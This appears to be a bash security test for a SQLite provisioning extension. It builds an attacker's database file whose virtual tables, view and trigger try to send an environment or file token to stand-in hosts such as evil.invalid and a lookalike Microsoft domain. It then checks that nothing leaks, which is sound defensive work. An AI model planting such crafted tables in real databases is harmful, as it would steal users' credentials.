#!/usr/bin/env bash
# hardening_schema.sh: a database file from someone else cannot make the
# extension send a token anywhere.
#
# The file (built here, as an attacker would) holds:
#   - a writable provisioning_events table on the mock (loopback, allowed by the victim's PROVISIONING_ALLOWED_HOSTS=127.0.0.1, so an
#     allowed host) with auth='env:HS_CANARY_TOKEN', and a view and an
#     AFTER INSERT trigger on an ordinary table that drive it (writable
#     tables are DIRECTONLY: both must be refused before any request);
#   - tables pointing at hosts the environment does not allow
#     (https://evil.invalid, the lookalike https://graph.microsoft.com.evil.invalid,
#     https://127.0.0.1.evil.invalid) with auth='env:HS_CANARY_TOKEN' and
#     auth='file:<a canary token file>'.
# The victim opens it with the canary token in the environment and queries
# every table, view and the trigger. Checks:
#   - the mock's request log for the writable table's scenario is empty
#     (no GET, no POST: no Authorization header ever arrived);
#   - a loopback catch-all listener set as every proxy (ALL_PROXY,
#     HTTPS_PROXY, http_proxy...) receives no byte: no connection was even
#     attempted towards a host that is not allowed;
#     (a control run with the host allowed shows the listener does see
#     the connection attempt);
#   - the canary appears in no output, no error message, no trace
#     (PROVISIONING_TRACE=1) and not in the database file.
. "$(dirname "$0")/lib.sh"
need_mock
B=$WORK
CANARY="hs-canary-$$-$RANDOM-7f3e"

# ---- a catch-all listener on loopback: records every byte it receives
cat >"$B/catch.py" <<'PY'
import socket, sys, threading
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(('127.0.0.1', 0)); s.listen(16)
open(sys.argv[1], 'w').write(str(s.getsockname()[1]))
log = open(sys.argv[2], 'ab', buffering=0)
def serve(c):
    c.settimeout(5)
    try:
        while True:
            d = c.recv(65536)
            if not d: break
            log.write(d)
    except Exception: pass
    c.close()
s.settimeout(1)
import time
end = time.time() + 300
while time.time() < end:
    try: c, _ = s.accept()
    except socket.timeout: continue
    log.write(b'[connection]\n')
    threading.Thread(target=serve, args=(c,), daemon=True).start()
PY
: >"$B/caught.log"
python3 "$B/catch.py" "$B/catch.port" "$B/caught.log" &
CATCH_PID=$!
at_exit 'kill $CATCH_PID 2>/dev/null'
for _ in $(seq 1 50); do [ -s "$B/catch.port" ] && break; sleep 0.1; done
[ -s "$B/catch.port" ] || { echo "catch-all listener did not start"; exit 1; }
PROXY="http://127.0.0.1:$(cat "$B/catch.port")"

# ---- the mock scenario of the writable table, and the token file
curl -s -X POST "$MOCK_URL/_mock/s/hs_w/reset" -d '{}' >/dev/null
curl -s -X POST "$MOCK_URL/_mock/s/hs_w/config" -d '{"requireAuth":true}' >/dev/null
printf '%s\n' "$CANARY" >"$B/token.txt"

# ---- the attacker's database file (built without the canary anywhere; the
# attacker's own environment allows the hosts, the victim's does not)
DB="$B/gift.db"
env PROVISIONING_SOURCE= PROVISIONING_ALLOWED_HOSTS="127.0.0.1,evil.invalid,graph.microsoft.com.evil.invalid,127.0.0.1.evil.invalid" \
  ALL_PROXY="$PROXY" HTTPS_PROXY="$PROXY" https_proxy="$PROXY" $SQLITE3 -batch -init /dev/null "$DB" <<SQL
.load $EXT
CREATE VIRTUAL TABLE w USING provisioning_events(source='$MOCK_URL/s/hs_w/v1.0', auth='env:HS_CANARY_TOKEN', writable=1);
CREATE TABLE inbox(job_id TEXT);
CREATE VIEW v_w AS SELECT id, job_id FROM w;
CREATE TRIGGER t_w AFTER INSERT ON inbox BEGIN INSERT INTO w(job_id) VALUES (new.job_id); END;
CREATE VIRTUAL TABLE evil1 USING provisioning_events(source='https://evil.invalid/v1.0', auth='env:HS_CANARY_TOKEN');
CREATE VIRTUAL TABLE evil2 USING provisioning_events(source='https://graph.microsoft.com.evil.invalid/v1.0', auth='file:$B/token.txt');
CREATE VIRTUAL TABLE evil3 USING provisioning_events(source='https://127.0.0.1.evil.invalid/v1.0', auth='env:HS_CANARY_TOKEN');
CREATE VIEW v_evil AS SELECT id FROM evil1;
SQL
n=$(sqlite3 "$DB" "SELECT count(*) FROM sqlite_schema WHERE name IN ('w','v_w','t_w','evil1','evil2','evil3','v_evil')")
[ "$n" = 7 ] || { echo "could not build the database file ($n of 7 objects)"; exit 1; }

# ---- the victim opens it, with the token in the environment, proxies pointing at the listener
# (the victim allows loopback, the mock, so that DIRECTONLY is what refuses the
# writable table; tests/sh/trust_hostile_db.sh covers loopback not allowed)
OUT="$B/victim.out"
env HS_CANARY_TOKEN="$CANARY" PROVISIONING_TRACE=1 PROVISIONING_SOURCE= PROVISIONING_ALLOWED_HOSTS=127.0.0.1 \
  ALL_PROXY="$PROXY" all_proxy="$PROXY" HTTPS_PROXY="$PROXY" https_proxy="$PROXY" http_proxy="$PROXY" \
  NO_PROXY= no_proxy= $SQLITE3 -batch -init /dev/null "$DB" >"$OUT" 2>&1 <<SQL
.load $EXT
.bail off
.headers off
SELECT 'schema', count(*) FROM sqlite_schema;
SELECT 'view', count(*) FROM v_w;
INSERT INTO inbox VALUES ('from-trigger');
SELECT 'inbox', count(*) FROM inbox;
SELECT 'evil1', count(*) FROM evil1;
SELECT 'evil2', count(*) FROM evil2;
SELECT 'evil3', count(*) FROM evil3;
SELECT 'v_evil', count(*) FROM v_evil;
SELECT 'joined', count(*) FROM evil1, evil2 WHERE evil1.id = evil2.id;
SELECT 'scan', provisioning_scan_stats();
.schema
SQL
sleep 0.5
cat "$OUT"
echo "----"

# the view and the trigger were refused (DIRECTONLY), before any request
check_cmd "view over the writable table refused" grep -q "unsafe use of virtual table" "$OUT"
check_cmd "trigger INSERT was rolled back" grep -q "^inbox|0$" "$OUT"
check_cmd "no table on a disallowed host returned rows" bash -c "! grep -E -q '^(evil[123]|v_evil|joined)\|' '$OUT'"
check_cmd "the refusal names the environment variable" grep -q "PROVISIONING_ALLOWED_HOSTS" "$OUT"
n=$(curl -s "$MOCK_URL/_mock/s/hs_w/requests")
check_cmd "no request reached the mock for the writable table (log: ${n:0:120})" [ "$n" = "[]" ]
check_cmd "the catch-all proxy received nothing" bash -c "[ ! -s '$B/caught.log' ]"
check_cmd "the canary is in no output, error or trace" bash -c "! grep -q -F -- '$CANARY' '$OUT'"
check_cmd "the canary is not in the database file" bash -c "! grep -a -q -F -- '$CANARY' '$DB'"
check_cmd "the canary is not in the request logs" bash -c "! curl -s '$MOCK_URL/_mock/s/hs_w/requests' | grep -q -F -- '$CANARY'"

# control: the listener does see a connection when the host is allowed (so
# the empty log above means something); no token in this run
env PROVISIONING_ALLOWED_HOSTS=evil.invalid PROVISIONING_SOURCE= HS_CANARY_TOKEN=control-not-secret \
  ALL_PROXY="$PROXY" all_proxy="$PROXY" HTTPS_PROXY="$PROXY" https_proxy="$PROXY" NO_PROXY= no_proxy= \
  $SQLITE3 -batch -init /dev/null "$DB" >"$B/control.out" 2>&1 <<SQL
.load $EXT
SELECT count(*) FROM evil1;
SQL
sleep 0.5
check_cmd "control: an allowed host is contacted (through the listener)" grep -a -q "CONNECT evil.invalid:443" "$B/caught.log"
finish
